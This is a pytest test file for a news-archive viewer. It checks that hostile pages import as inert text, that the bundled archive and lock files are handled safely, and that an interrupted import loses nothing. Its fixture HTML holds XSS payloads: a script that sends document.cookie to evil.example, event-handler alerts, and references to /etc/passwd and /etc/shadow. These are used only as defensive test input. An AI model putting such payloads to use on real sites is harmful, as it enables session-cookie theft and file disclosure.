"""Robustness: hostile pages fetch and run nothing, the bundled archive is never written,
a second instance does not write beside the first, and an import killed mid-way leaves
every earlier article whole."""

from __future__ import annotations

import hashlib
import os
import signal
import sqlite3
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import RAW_DIR
from viewer import paths
from viewer.gui import archive_lock
from viewer.gui.widgets.raw_view import RawView
from viewer.gui.widgets.reader import ReaderView

HOSTILE = """<!DOCTYPE html><html><head><title>乡村振兴新闻_示例网</title>
<script>alert('x'); fetch('http://evil.example/steal?c=' + document.cookie)</script>
<link rel="stylesheet" href="http://evil.example/s.css"><meta http-equiv="refresh"
 content="0; url=http://evil.example/"><style>body{background:url(http://evil.example/b.png)}</style>
</head><body onload="alert(1)">
<h1 onmouseover="alert(4)">山西壶关县开展干部培训</h1>
<p onclick="alert(2)">2023年4月14日，山西省壶关县组织干部培训600余人次，效果良好。</p>
<p><a href="javascript:alert(3)">点击这里</a>查看详情。武汉大学与壶关县开展县校合作。</p>
<img src="file:///etc/passwd"><img src="http://evil.example/pixel.gif" onerror="alert(5)">
<iframe src="http://evil.example/frame"></iframe><object data="file:///etc/shadow"></object>
<script src="http://evil.example/x.js"></script><svg onload="alert(6)"></svg>
<p>双方签约，投入314.51万元，共建实践基地，带动就业1200人。</p></body></html>
"""
ADDRESSES = ("evil.example", "/etc/passwd", "/etc/shadow", "javascript:")


@pytest.fixture
def audit() -> Any:
    """Python-level file opens and network calls, recorded while `on` is set."""

    class Recorder:
        def __init__(self) -> None:
            self.on = False
            self.events: list[tuple[str, str]] = []

    recorder = Recorder()

    def hook(event: str, args: tuple) -> None:
        if recorder.on and (event == "open" or event.startswith(("socket.", "urllib."))):
            recorder.events.append((event, repr(args[:1])))

    sys.addaudithook(hook)  # hooks cannot be removed; this one is idle once `on` is unset
    yield recorder
    recorder.on = False


def test_hostile_page_is_plain_text_and_fetches_nothing(
    window: Any, tmp_path: Path, monkeypatch: Any, audit: Any
) -> None:
    page = tmp_path / "hostile.html"
    page.write_text(HOSTILE, encoding="utf-8")
    audit.on = True
    window.importer.start([page])
    audit.on = False
    assert any("hostile.html" in e[1] for e in audit.events)  # the recorder does record
    assert not [e for e in audit.events if e[0] != "open"]  # no network while importing
    assert not [e for e in audit.events if any(a in e[1] for a in ADDRESSES)]
    (aid,) = window.importer.last_report.new_ids
    body = window.archive.get_article(aid).article.body
    assert "山西省壶关县组织干部培训600余人次" in body and "点击这里查看详情" in body
    for trace in ("alert", "script", "evil", "passwd", "onload", "<"):
        assert trace not in body

    loads: list[tuple[int, str]] = []

    def refuse(self: Any, kind: int, url: Any) -> None:
        loads.append((kind, url.toString()))
        return None

    monkeypatch.setattr(ReaderView, "loadResource", refuse)
    monkeypatch.setattr(RawView, "loadResource", refuse)
    window.show_article(None)
    audit.events.clear()
    audit.on = True
    window.show_article(aid)
    window.set_raw_mode("beside")  # the raw page, markup and all, shown as characters
    window.repaint()
    audit.on = False
    assert window.stored.id == aid
    assert "<script>alert('x')" in window.raw_view.toPlainText()
    assert "山西省壶关县组织干部培训" in window.reader.toPlainText()
    assert loads == []  # no image, frame or style was ever asked for
    assert not [e for e in audit.events if e[0] != "open"]
    assert not [e for e in audit.events if any(a in e[1] for a in ADDRESSES)]
    for view in (window.reader, window.raw_view):
        assert not view.openLinks() and not view.openExternalLinks()
        assert not view.document().allFormats() or all(
            not f.isImageFormat() for f in view.document().allFormats()
        )
    network = sys.modules.get("PySide6.QtNetwork")
    if network is not None:  # nothing may have made a network manager on the way
        assert not [o for o in window.findChildren(network.QNetworkAccessManager)]


def _digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def test_bundled_archive_is_never_written(
    make_window: Any, dialogs: list, monkeypatch: Any
) -> None:
    bundled = paths.bundled_archive()
    before = (_digest(bundled), bundled.stat().st_mtime_ns)
    siblings = set(bundled.parent.iterdir())
    window = make_window(bundled)
    assert window.archive.readonly
    assert not window.importer.start([sorted(RAW_DIR.glob("*.txt"))[0]])
    assert "shipped with the app, which is never changed" in dialogs[-1][1]
    from PySide6.QtWidgets import QMessageBox

    monkeypatch.setattr(QMessageBox, "question", staticmethod(lambda *a: QMessageBox.Yes))
    assert not window.editor.delete_current()
    assert dialogs[-1][0] == "warning" and "never changed" in dialogs[-1][1]
    window.close()
    window.archive.close()
    assert (_digest(bundled), bundled.stat().st_mtime_ns) == before
    assert set(bundled.parent.iterdir()) == siblings  # no -wal, -shm or lock file left


HOLDER = """
import sys
from PySide6.QtCore import QCoreApplication
app = QCoreApplication([])
from viewer.gui.app import open_archive
archive = open_archive(sys.argv[1])
print("writable" if not archive.readonly else "read-only", flush=True)
sys.stdin.read()
"""


def _holder(path: Path) -> subprocess.Popen:
    child = subprocess.Popen(
        [sys.executable, "-c", HOLDER, str(path)],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        text=True,
    )
    assert child.stdout is not None and child.stdout.readline().strip() == "writable"
    return child


def test_second_instance_opens_read_only_and_says_so(
    make_window: Any, archive_file: Path, dialogs: list
) -> None:
    from viewer.gui.widgets.archive_edits import notice_read_only

    child = _holder(archive_file)
    try:
        before = _digest(archive_file)
        window = make_window(archive_file)
        assert window.archive.readonly
        notice_read_only(window)
        kind, text = dialogs[-1]
        assert kind == "information" and f"process {child.pid}" in text
        assert not window.importer.start([sorted(RAW_DIR.glob("*.txt"))[0]])
        assert f"process {child.pid}" in dialogs[-1][1] and "read-only" in dialogs[-1][1]
        assert window.articles.rowCount() == 3  # reading still works
        assert _digest(archive_file) == before
    finally:
        assert child.stdin is not None
        child.stdin.close()
        child.wait(30)
    window.archive.close()
    window.close()
    again = make_window(archive_file)  # the first instance is gone: writable again
    assert not again.archive.readonly and archive_lock.busy(archive_file) is None


def test_lock_of_a_killed_instance_is_taken_over(tmp_path: Path, archive_file: Path) -> None:
    child = _holder(archive_file)
    os.kill(child.pid, signal.SIGKILL)
    child.wait(30)
    assert archive_lock.lock_path(archive_file).exists()
    assert archive_lock.acquire(archive_file)
    archive_lock.release(archive_file)


def _copies(folder: Path, count: int) -> None:
    """Distinct real-looking pages: the raw documents, each with a numbered closing line."""
    folder.mkdir()
    sources = [p.read_text(encoding="utf-8") for p in sorted(RAW_DIR.glob("*.txt"))]
    for i in range(count):
        text = sources[i % len(sources)] + f"\n第{i}号附记：本报记者整理，共{i + 3}人参加。\n"
        (folder / f"{i:04d}.txt").write_text(text, encoding="utf-8")


def _count(path: Path) -> tuple[int, set[str]]:
    try:
        conn = sqlite3.connect(f"file:{path}?mode=ro", uri=True)
        try:
            ids = {r[0] for r in conn.execute("SELECT id FROM articles")}
        finally:
            conn.close()
    except sqlite3.Error:
        return 0, set()
    return len(ids), ids


@pytest.mark.slow
def test_import_killed_mid_way_then_opened_in_the_app(make_window: Any, tmp_path: Path) -> None:
    folder = tmp_path / "pages"
    _copies(folder, 800)
    archive = tmp_path / "killed.sqlite"
    cmd = [sys.executable, "-m", "viewer", "import", str(folder), "--archive", str(archive)]
    child = subprocess.Popen([*cmd, "--jobs", "1"], stderr=subprocess.DEVNULL)
    seen: set[str] = set()
    try:
        deadline = time.monotonic() + 120
        while time.monotonic() < deadline and child.poll() is None:
            n, seen = _count(archive)
            if n >= 100:
                break
            time.sleep(0.02)
    finally:
        os.kill(child.pid, signal.SIGKILL)
        child.wait()
    assert child.returncode == -signal.SIGKILL, "the import finished before it was killed"
    assert len(seen) >= 100

    with sqlite3.connect(archive) as conn:  # SQLite itself: sound, nothing lost
        assert conn.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
        assert seen <= {r[0] for r in conn.execute("SELECT id FROM articles")}
    window = make_window(archive)
    arc = window.archive
    assert arc.db.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
    check = "INSERT INTO articles_search(articles_search) VALUES ('integrity-check')"
    assert arc.db.execute(check).fetchall() == []
    count = arc.article_count()
    assert 100 <= count < 800
    assert seen <= set(arc.article_ids())  # every article seen before the kill is there
    assert window.articles.total() == count
    meta = arc.metadata()
    assert int(meta["article_count"]) == count  # counts written with their articles
    assert int(meta["fact_count"]) == arc.fact_count()
    from viewer.pipeline import process

    for aid in arc.article_ids():  # each article whole: as the pipeline makes it
        stored = arc.get_article(aid)
        expected = process(Path(stored.origin).read_bytes(), stored.origin)
        assert stored.article.body == expected.body and stored.article.facts == expected.facts
    last = arc.article_ids()[-1]
    assert window.list_pane.select(last)
    assert arc.get_article(last).article.body[:30] in window.reader.toPlainText()


def test_unexpected_error_becomes_a_dialog_and_a_log(dialogs: list) -> None:
    from viewer.gui import error_dialogs

    try:
        raise RuntimeError("the disk went away")
    except RuntimeError as exc:
        error_dialogs.hook(RuntimeError, exc, exc.__traceback__)
    kind, text = dialogs[-1]
    assert kind == "critical" and "Something went wrong: the disk went away" in text
    assert "Traceback" not in text and str(error_dialogs.log_file()) in text
    logged = error_dialogs.log_file().read_text(encoding="utf-8")
    assert "Traceback" in logged and "RuntimeError: the disk went away" in logged
